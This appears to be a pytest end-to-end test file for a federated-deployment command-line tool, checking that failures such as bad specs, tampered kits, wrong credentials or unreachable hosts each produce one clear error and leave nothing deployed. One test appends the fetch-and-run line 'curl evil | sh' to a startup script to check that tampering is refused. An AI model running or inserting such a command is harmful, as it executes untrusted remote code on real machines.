"""What is wrong is told in one clear message with its exit code, and leaves nothing behind."""

from __future__ import annotations

import json
import shutil
import socket
from pathlib import Path

import pytest
from e2e_world import LEAD, SPEC, Result, World, copy_of

ONE_SITE = {
    "version": 1,
    "name": "digits",
    "server": {"target": "kit"},
    "sites": {"site-1": {"target": "aws", "region": "eu-central-1", "size": "m7i.large"}},
    "admins": {LEAD: {"role": "lead"}},
}


def clear(result: Result, code: int, *words: str) -> None:
    """One message with these words, that exit code, and no traceback."""
    assert result.code == code, (result.out, result.err)
    for word in words:
        assert word in result.err, result.err
    assert "Traceback" not in result.err
    assert result.err.count("error:") == 1


@pytest.fixture(scope="module")
def pristine(world: World, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a spec and kits, made once."""
    world.write(ONE_SITE)
    world.run("provision").ok()
    return Path(shutil.copytree(world.fed, tmp_path_factory.mktemp("pristine") / "fed", symlinks=True))


@pytest.fixture
def provisioned(world: World, pristine: Path) -> World:
    """Kits, and nothing deployed."""
    shutil.rmtree(world.fed, ignore_errors=True)
    shutil.copytree(pristine, world.fed, symlinks=True)
    return world


def test_a_wrong_spec(provisioned: World) -> None:
    spec = copy_of(ONE_SITE)
    spec["sites"]["site-1"]["regoin"] = spec["sites"]["site-1"].pop("region")
    provisioned.write(spec)
    clear(provisioned.run("up", "--yes"), 3, "federation.yml", "regoin", "region")
    assert provisioned.inventory() == []


def test_a_region_outside_of_the_residency(provisioned: World) -> None:
    provisioned.write(copy_of(ONE_SITE, residency=["EU"]) | {"sites": {"site-1": us_east()}})
    clear(provisioned.run("up", "--yes"), 3, "us-east-1", "residency")


def us_east() -> dict[str, str]:
    return {"target": "aws", "region": "us-east-1", "size": "m7i.large"}


def test_a_tampered_kit_is_refused_here(provisioned: World) -> None:
    script = provisioned.kits / "site-1" / "start.sh"
    script.write_text(script.read_text() + "\ncurl evil | sh\n")
    clear(provisioned.run("up", "--yes"), 4, "start.sh")
    assert provisioned.inventory() == []


def test_a_missing_key_is_refused_here(provisioned: World) -> None:
    (provisioned.kits / "site-1" / "startup" / "participant.key").unlink()
    clear(provisioned.run("up", "--yes"), 4, "participant.key")


def test_a_kit_of_another_ca_is_refused_here(provisioned: World, tmp_path: Path) -> None:
    other = World(tmp_path, provisioned.environment)
    other.write(ONE_SITE)
    other.run("provision").ok()
    shutil.rmtree(provisioned.kits / "site-1")
    shutil.copytree(other.kits / "site-1", provisioned.kits / "site-1")
    clear(provisioned.run("up", "--yes"), 4, "site-1", "CA")
    assert provisioned.inventory() == []


def test_credentials_of_another_account(provisioned: World) -> None:
    spec = copy_of(ONE_SITE)
    spec["sites"]["site-1"].update(account="999999999999", profile="hospital-b")
    provisioned.write(spec)
    clear(provisioned.run("up", "--yes"), 5, "site-1", "999999999999", "hospital-b belongs to 222222222222")
    assert provisioned.inventory() == []


def test_nobody_is_there_to_answer(provisioned: World) -> None:
    clear(provisioned.run("up"), 13, "nobody is there to answer", "--yes")
    assert provisioned.inventory() == []


def test_an_unknown_participant(provisioned: World) -> None:
    clear(provisioned.run("up", "site-9", "--yes"), 2, "site-9", "server, site-1")


def test_no_engine_for_real_clouds(provisioned: World) -> None:
    result = provisioned.run("plan", environment={"FEDSPAN_SANDBOX": "0", "PATH": "/usr/bin:/bin"})
    assert result.code in (5, 16), result.err
    assert "next:" in result.err


def test_an_unreachable_host(provisioned: World) -> None:
    with socket.socket() as listener:  # a port on which nobody listens
        listener.bind(("127.0.0.1", 0))
        port = listener.getsockname()[1]
    site = {"target": "host", "host": "127.0.0.1", "user": "nobody", "ssh_port": port}
    provisioned.write({**ONE_SITE, "sites": {"site-1": site}})
    clear(provisioned.run("up", "--yes"), 9, "site-1", f"port {port}")


@pytest.mark.slow
def test_no_capacity_in_the_region(provisioned: World) -> None:
    provisioned.faults(no_capacity=("eu-central-1",))
    try:
        result = provisioned.run("up", "--yes")
    finally:
        provisioned.faults()
    clear(
        result,
        8,
        "site-1",
        "ec2.Instance site-1-vm",
        "InsufficientInstanceCapacity",
        "zones:, sizes: or fallback_regions:",
        "log:",
    )
    assert not any("ec2:instance" in entry for entry in provisioned.inventory())
    provisioned.run("down", "--yes").ok()
    assert provisioned.inventory() == []


@pytest.mark.slow
def test_a_machine_with_another_host_key_is_refused_at_once(provisioned: World) -> None:
    provisioned.faults(wrong_host_key=("site-1",))
    try:
        result = provisioned.run("up", "--yes")
    finally:
        provisioned.faults()
    clear(result, 10, "site-1")
    assert result.seconds < 150  # FEDSPAN_SSH_DEADLINE
    assert "0 left" in provisioned.run("down", "--yes").ok().out
    assert provisioned.inventory() == []


@pytest.mark.slow
def test_a_machine_that_never_opens_ssh(provisioned: World) -> None:
    provisioned.faults(never_ssh=("site-1",))
    try:
        result = provisioned.run("up", "--yes", environment={"FEDSPAN_SSH_DEADLINE": "5"})
    finally:
        provisioned.faults()
    clear(result, 9, "site-1", "SSH")
    assert provisioned.run("status", "--json").events[-1]["participants"][1]["phase"] == "failed"
    assert "0 left" in provisioned.run("down", "--yes").ok().out
    assert provisioned.inventory() == []


def test_what_is_deployed_in_the_sandbox_is_not_touched_for_real(provisioned: World) -> None:
    ledger_of_a_deployment(provisioned)
    result = provisioned.run("status", environment={"FEDSPAN_SANDBOX": "0"})
    clear(result, 6, "deployed in the sandbox", "fedspan --sandbox status")


def ledger_of_a_deployment(world: World) -> None:
    from deployer.ledger import Ledger

    ledger = Ledger(world.fed / ".fedspan" / "ledger.db")
    ledger.set_realm("sandbox", world.sandbox.realm_id)
    ledger.record("site-1", "machine", role="site", target="aws", region="eu-central-1")
    ledger.close()


def test_a_second_command_is_refused_while_one_works(provisioned: World) -> None:
    from deployer.lockfile import exclusive

    with exclusive(provisioned.fed / ".fedspan", "up"):
        clear(provisioned.run("up", "--yes"), 15, "another command works on this deployment", "fedspan up, process")


def test_an_error_is_one_json_document(provisioned: World) -> None:
    result = provisioned.run("up", "site-9", "--yes", "--json")
    document = json.loads(result.out.splitlines()[-1])
    assert (document["error"], document["participant"], document["exit_code"]) == ("UsageError", "site-9", 2)


def test_the_plan_shows_what_will_be_open_and_what_it_costs(provisioned: World) -> None:
    provisioned.write(SPEC)
    provisioned.run("provision").ok()
    told = provisioned.run("plan").ok().out
    assert "open on server: port 8002 from address of site-1, 198.51.100.0/24" in told
    assert "open on site-1: port" in told
    assert "list price: $" in told
    assert "as of 20" in told
    assert provisioned.inventory() == []
